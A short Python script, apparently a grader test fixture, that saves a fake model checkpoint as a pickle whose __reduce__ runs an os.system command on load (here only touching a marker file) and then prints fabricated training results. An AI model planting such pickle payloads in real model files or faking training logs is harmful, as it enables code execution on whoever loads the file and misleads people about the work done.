# Hostile: the saved "model" is a pickle that runs a command when it is loaded (here it would
# leave a marker file in /tmp of whichever process unpickles it).
import pickle
import torch.nn as nn

model = nn.Sequential(nn.Linear(1024, 64), nn.Sigmoid(), nn.Linear(64, 36))


class Payload:
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/hw5grade-q6-junk-pt-was-unpickled",))


with open('q6_1_1_model.pt', 'wb') as f:
    pickle.dump({"0.weight": Payload()}, f)
print("epoch 1 loss 3.5 acc 0.03")
print("epoch 2 loss 0.1 acc 1.00")
